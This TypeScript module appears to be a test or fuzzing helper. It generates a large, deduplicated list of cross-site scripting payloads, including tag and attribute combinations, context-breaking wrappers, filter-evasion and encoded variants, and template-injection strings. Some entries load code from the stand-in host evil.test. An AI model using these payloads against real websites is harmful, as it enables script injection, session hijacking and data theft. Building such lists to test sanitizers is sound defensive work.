/** Call that a payload makes when it runs. Short, so that every payload fits into a title. */
export const MARK = '__x()';

const ATTRIBUTES = [
  `onerror=${MARK} src=x`,
  `onload=${MARK}`,
  `onfocus=${MARK} autofocus tabindex=0`,
  `onanimationstart=${MARK} style=animation:x`,
  `onpointerover=${MARK}`,
  `ontoggle=${MARK} open`,
  `href=javascript:${MARK}`,
  `style=background:url(javascript:${MARK})`,
];
const TAGS = ['img', 'svg', 'iframe', 'details', 'a', 'input', 'video', 'x-y'];
const WRAPPERS: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</title>${markup}`,
  (markup) => `</textarea>${markup}`,
  (markup) => `--><![CDATA[>${markup}`,
  (markup) => `&lt;x&gt;${markup}`,
  (markup) => `<math><mtext>${markup}`,
];
const ALONE = [
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<scr<script>ipt>${MARK}</script>`,
  `<SCRIPT/x>${MARK}</SCRIPT>`,
  `<script src=data:,${MARK}></script>`,
  `<script type=module>${MARK}</script>`,
  `<base href=//evil.test/>`,
  `<meta http-equiv=refresh content="0;javascript:${MARK}">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import'//evil.test/x'</style>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>">`,
  `<object data=javascript:${MARK}>`,
  `<embed src=javascript:${MARK}>`,
  `<form action=javascript:${MARK}><button autofocus>x`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><script>${MARK}</script>`,
  `<svg><use href=data:image/svg+xml,x#x>`,
  `<math><mglyph><style><img src=x onerror=${MARK}>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<template><img src=x onerror=${MARK}></template>`,
  `<xss id=x tabindex=1 onfocus=${MARK}></xss>`,
  `javascript:${MARK}`,
  `java\tscript:${MARK}`,
  `JaVaScRiPt:${MARK}//`,
  `data:text/html,<script>${MARK}</script>`,
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
  `<%= ${MARK} %>`,
  `#{${MARK}}`,
  `'-${MARK}-'`,
  `";${MARK};//`,
  `\`;${MARK};//`,
  `\\u003cimg src=x onerror=${MARK}\\u003e`,
  `%3Cimg src=x onerror=${MARK}%3E`,
  `&#60;img src=x onerror=${MARK}&#62;`,
  `\u202e<img src=x onerror=${MARK}>`,
  `\uff1cimg src=x onerror=${MARK}\uff1e`,
  `<img\u2028src=x onerror=${MARK}>`,
  `<img/src=\`x\`onerror=${MARK}>`,
  `<a href="&#106;avascript:${MARK}">x</a>`,
];

/** Returns every combination of tag, attribute and surrounding markup, and the payloads that follow no pattern, without duplicates. */
export function scriptPayloads(): string[] {
  const combined = WRAPPERS.flatMap((wrap) =>
    TAGS.flatMap((tag) => ATTRIBUTES.map((attribute) => wrap(`<${tag} ${attribute}>`))),
  );
  return [...new Set([...ALONE, ...combined])];
}
